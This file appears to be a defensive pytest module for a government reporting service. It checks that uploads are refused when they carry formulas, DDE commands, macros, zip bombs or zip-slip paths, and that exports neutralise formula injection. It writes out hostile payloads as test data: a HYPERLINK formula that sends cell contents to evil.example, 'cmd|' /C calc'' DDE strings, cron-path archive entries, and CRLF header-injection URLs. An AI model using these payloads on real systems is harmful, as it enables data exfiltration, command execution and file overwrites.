"""Hostile files: XLSX report uploads (macros, formulas, foreign templates, zip tricks), file
download names built from what a caller sends, and formula injection through every XLSX and
CSV export (text that came from outside must never become a formula)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from lienthong.agencies.model import Level, NewAgency
from lienthong.reporting.xlsx import DATA_SHEET, META_SHEET, OUTLINE_SHEET
from tests.integration.hostile.conftest import CAO_BANG, GOV_OFFICE, NGHE_AN, Hub, error_code
from tests.support import document_bytes

PERIOD = "2026-M11"
HOSTILE_AGENCY = "000.00.00.H99"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def template(hub: Hub) -> bytes:
    assert hub.container.reporting is not None
    hub.container.reporting.definitions.ensure_demo_regime()
    with hub.http(auth=hub.basic(NGHE_AN)) as http:
        answer = http.get(f"/api/v1/reporting/KTXH/{PERIOD}/template.xlsx")
    assert answer.status_code == 200, answer.text
    return answer.content


def _edited(data: bytes, change: Callable[[Workbook], None]) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _first_input(wb: Workbook) -> Any:
    ws = wb[DATA_SHEET]
    for row in ws.iter_rows(min_row=1):
        for cell in row:
            if not cell.protection.locked and cell.column >= 4:
                return cell
    raise AssertionError("no input cell")


def _set_input(value: object) -> Callable[[Workbook], None]:
    def change(wb: Workbook) -> None:
        _first_input(wb).value = value

    return change


def _meta(row: int, value: object) -> Callable[[Workbook], None]:
    def change(wb: Workbook) -> None:
        wb[META_SHEET].cell(row=row, column=2, value=value)

    return change


def _outline(value: str) -> Callable[[Workbook], None]:
    def change(wb: Workbook) -> None:
        wb[OUTLINE_SHEET]["C2"] = value

    return change


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return out.getvalue()


def _with_entry(name: str, body: bytes) -> Callable[[bytes], bytes]:
    def make(data: bytes) -> bytes:
        source = zipfile.ZipFile(io.BytesIO(data))
        entries = {i.filename: source.read(i) for i in source.infolist()}
        entries[name] = body
        return _zip(entries)

    return make


UPLOADS: list[Any] = [
    pytest.param(lambda t: _edited(t, _set_input("=1+1")), "REPORT_FORMULA_REFUSED", id="formula"),
    pytest.param(
        lambda t: _edited(t, _set_input(FORMULAS[1])), "REPORT_FORMULA_REFUSED", id="dde-formula"
    ),
    pytest.param(
        lambda t: _edited(t, _set_input(FORMULAS[0])),
        "REPORT_FORMULA_REFUSED",
        id="hyperlink-formula",
    ),
    pytest.param(
        lambda t: _edited(t, _outline('=WEBSERVICE("http://evil.example")')),
        "REPORT_FORMULA_REFUSED",
        id="formula-in-outline",
    ),
    pytest.param(
        lambda t: _edited(t, _set_input("khoảng hai mươi")),
        "REPORT_CELL_NOT_NUMBER",
        id="text-in-number",
    ),
    pytest.param(
        lambda t: _edited(t, _set_input("1e308000")), "REPORT_CELL_NOT_NUMBER", id="number-overflow"
    ),
    pytest.param(
        lambda t: _edited(t, _meta(3, 0)), "REPORT_TEMPLATE_VERSION", id="template-version"
    ),
    pytest.param(
        lambda t: _edited(t, lambda wb: wb.remove(wb[META_SHEET])),
        "REPORT_SHEET_MISSING",
        id="meta-sheet-removed",
    ),
    pytest.param(
        lambda t: _edited(t, lambda wb: wb.remove(wb[DATA_SHEET])),
        "REPORT_SHEET_MISSING",
        id="data-sheet-removed",
    ),
    pytest.param(lambda t: b"PK\x03\x04 not really a zip", "REPORT_FILE_UNSAFE", id="fake-zip"),
    pytest.param(
        lambda t: "Số liệu,1,2\n=1+1,2\n".encode(), "REPORT_FILE_UNSAFE", id="csv-as-xlsx"
    ),
    pytest.param(lambda t: b"", "REPORT_FILE_UNSAFE", id="empty"),
    pytest.param(
        lambda t: _zip(
            {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": bytes(30 << 20)}
        ),
        "REPORT_FILE_UNSAFE",
        id="xlsx-zip-bomb",
    ),
    pytest.param(
        lambda t: _zip({f"x/{i}.xml": b"<a/>" for i in range(100)}),
        "REPORT_FILE_UNSAFE",
        id="many-entries",
    ),
    pytest.param(lambda t: _zip({"a.txt": b"hello"}), "REPORT_TEMPLATE_INVALID", id="zip-not-xlsx"),
    pytest.param(
        _with_entry("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"),
        "REPORT_FILE_UNSAFE",
        id="macro-project",
    ),
    pytest.param(
        _with_entry("../../../../tmp/evil.sh", b"#!/bin/sh"),
        "REPORT_FILE_UNSAFE",
        id="zip-slip-entry",
    ),
    pytest.param(
        _with_entry("/etc/cron.d/evil", b"* * * * * root x"),
        "REPORT_FILE_UNSAFE",
        id="zip-absolute-entry",
    ),
    pytest.param(
        _with_entry("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        "REPORT_FILE_UNSAFE",
        id="external-link",
    ),
]


@pytest.mark.parametrize(("make", "code"), UPLOADS)
def test_a_hostile_report_upload_is_refused(
    hub: Hub, template: bytes, make: Callable[[bytes], bytes], code: str
) -> None:
    data = make(template)
    with hub.http(auth=hub.basic(NGHE_AN)) as http:
        answer = hub.unchanged(lambda: http.post("/api/v1/reporting/upload", content=data))
    assert 400 <= answer.status_code < 500, answer.text[:500]
    assert error_code(answer) == code, answer.text[:500]


def test_another_units_template_is_refused(hub: Hub, template: bytes) -> None:
    with hub.http(auth=hub.basic(CAO_BANG)) as http:
        answer = hub.unchanged(lambda: http.post("/api/v1/reporting/upload", content=template))
    assert error_code(answer) == "REPORT_UNIT_MISMATCH", answer.text[:500]


def test_a_template_whose_unit_was_edited_is_refused(hub: Hub, template: bytes) -> None:
    def other_unit(wb: Workbook) -> None:
        ws = wb[META_SHEET]
        for row in ws.iter_rows():
            if row[1].value == NGHE_AN:
                row[1].value = CAO_BANG

    data = _edited(template, other_unit)
    with hub.http(auth=hub.basic(NGHE_AN)) as http:
        answer = hub.unchanged(lambda: http.post("/api/v1/reporting/upload", content=data))
    assert error_code(answer) in {"REPORT_UNIT_MISMATCH", "REPORT_TEMPLATE_INVALID"}, answer.text


def test_an_upload_over_the_limit_is_refused(hub: Hub) -> None:
    data = b"PK" + bytes(3 * 1024 * 1024)
    with hub.http(auth=hub.basic(NGHE_AN)) as http:
        answer = hub.unchanged(lambda: http.post("/api/v1/reporting/upload", content=data))
    assert answer.status_code == 413, answer.text
    assert error_code(answer) == "REPORT_FILE_TOO_LARGE"


NAMES = [
    pytest.param(
        '/api/v1/reporting/KTXH"; filename="evil.exe/2026-M11/template.xlsx',
        "REGIME_UNKNOWN",
        id="regime-quote",
    ),
    pytest.param(
        "/api/v1/reporting/KTXH%0D%0ASet-Cookie:x=1/2026-M11/template.xlsx",
        "REGIME_UNKNOWN",
        id="regime-crlf",
    ),
    pytest.param(
        '/api/v1/reporting/KTXH/2026-M11"x/template.xlsx',
        "REPORT_PERIOD_INVALID",
        id="period-quote",
    ),
]


@pytest.mark.parametrize(("path", "code"), NAMES)
def test_download_names_are_never_built_from_hostile_input(hub: Hub, path: str, code: str) -> None:
    with hub.http(auth=hub.basic(NGHE_AN)) as http:
        answer = hub.unchanged(lambda: http.get(path))
    assert 400 <= answer.status_code < 500, answer.text
    assert error_code(answer) == code, answer.text
    assert "content-disposition" not in answer.headers


@pytest.fixture(scope="module")
def hostile_texts(hub: Hub) -> list[str]:
    """Formulas typed where exports take their text from: documents' subjects (the clerk's
    registers), an agency's name (the monitoring centre's exports)."""
    for n, formula in enumerate(FORMULAS):
        data = document_bytes(GOV_OFFICE, [NGHE_AN], number=str(300 + n), subject=formula)
        with hub.http(auth=hub.basic(GOV_OFFICE)) as http:
            answer = http.post("/api/v1/packages", content=data)
        assert answer.status_code == 201, answer.text
        clerk = hub.login("vanthu.nghean")
        opened = clerk.get(f"/van-thu/van-ban/{answer.json()['document_id']}")
        assert opened.status_code == 200
    # An agency named with a formula (as a registry import or a federated directory could
    # bring) that sends a document: the monitoring centre lists it in its exports.
    hub.container.agencies.register(
        NewAgency(code=HOSTILE_AGENCY, name=FORMULAS[0], level=Level(1))
    )
    secret = hub.container.agencies.issue_credentials(HOSTILE_AGENCY)[1]
    data = document_bytes(HOSTILE_AGENCY, [NGHE_AN], number="399")
    with hub.http(auth=(HOSTILE_AGENCY, secret)) as http:
        assert http.post("/api/v1/packages", content=data).status_code == 201
    return FORMULAS


def _cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


EXPORTS = [
    pytest.param("vanthu.nghean", "/van-thu/so-den.xlsx", id="incoming-register-xlsx"),
    pytest.param("vanthu.vpcp", "/van-thu/so-di.xlsx", id="outgoing-register-xlsx"),
    pytest.param("vanhanh", "/giam-sat/don-vi?dinh_dang=xlsx", id="monitoring-agencies-xlsx"),
    pytest.param("vanhanh", "/dich-vu-cong/quan-tri/xuat.xlsx", id="portal-figures-xlsx"),
]


@pytest.mark.parametrize(("username", "path"), EXPORTS)
def test_no_xlsx_export_holds_a_formula(
    hub: Hub, hostile_texts: list[str], username: str, path: str
) -> None:
    client = hub.login(username)
    answer = hub.unchanged(lambda: client.get(path))
    assert answer.status_code == 200, answer.text[:300]
    cells = _cells(answer.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the export"


def test_an_xlsx_export_keeps_the_typed_formula_as_text(hub: Hub, hostile_texts: list[str]) -> None:
    client = hub.login("vanhanh")
    cells = _cells(client.get("/giam-sat/don-vi", params={"dinh_dang": "xlsx"}).content)
    named = [c for c in cells if c.value == hostile_texts[0]]
    assert named and all(c.data_type == "s" for c in named), "shown as typed, as text"


def test_the_csv_export_defuses_formulas(hub: Hub, hostile_texts: list[str]) -> None:
    client = hub.login("vanhanh")
    answer = hub.unchanged(lambda: client.get("/giam-sat/don-vi", params={"dinh_dang": "csv"}))
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    fields = [f for row in rows for f in row]
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")], fields
    assert "'" + hostile_texts[0] in fields
